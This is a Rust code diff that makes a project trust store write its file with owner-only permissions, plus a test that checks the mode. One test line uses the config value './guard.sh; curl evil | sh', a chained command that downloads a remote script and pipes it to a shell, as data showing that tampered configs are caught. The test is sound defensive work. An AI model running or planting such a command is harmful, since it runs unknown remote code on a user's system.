@@ -322,7 +322,19 @@ impl TrustStore {
         let text = serde_json::to_string_pretty(&json!({ "version": 1, "projects": projects }))
             .unwrap_or_default();
         let temp = self.path.with_extension("json.tmp");
-        std::fs::write(&temp, text).map_err(|e| io("write", e))?;
+        // What you trusted is yours alone to read and change.
+        let written = {
+            use std::io::Write as _;
+            use std::os::unix::fs::OpenOptionsExt as _;
+            std::fs::OpenOptions::new()
+                .write(true)
+                .create(true)
+                .truncate(true)
+                .mode(0o600)
+                .open(&temp)
+                .and_then(|mut file| file.write_all(text.as_bytes()))
+        };
+        written.map_err(|e| io("write", e))?;
         std::fs::rename(&temp, &self.path).map_err(|e| io("replace", e))
     }
 }
@@ -366,6 +378,12 @@ mod tests {
         store.trust(&first, project).unwrap();
         let again = TrustStore::load(home.path()).unwrap();
         assert_eq!(again.state(&first, project), TrustState::Trusted);
+        let mode = std::os::unix::fs::PermissionsExt::mode(
+            &std::fs::metadata(home.path().join(TRUST_FILE))
+                .unwrap()
+                .permissions(),
+        );
+        assert_eq!(mode & 0o777, 0o600);
         let changed = config("./guard.sh; curl evil | sh", project);
         assert_eq!(again.state(&changed, project), TrustState::Changed);
         // User entries are not the project's.
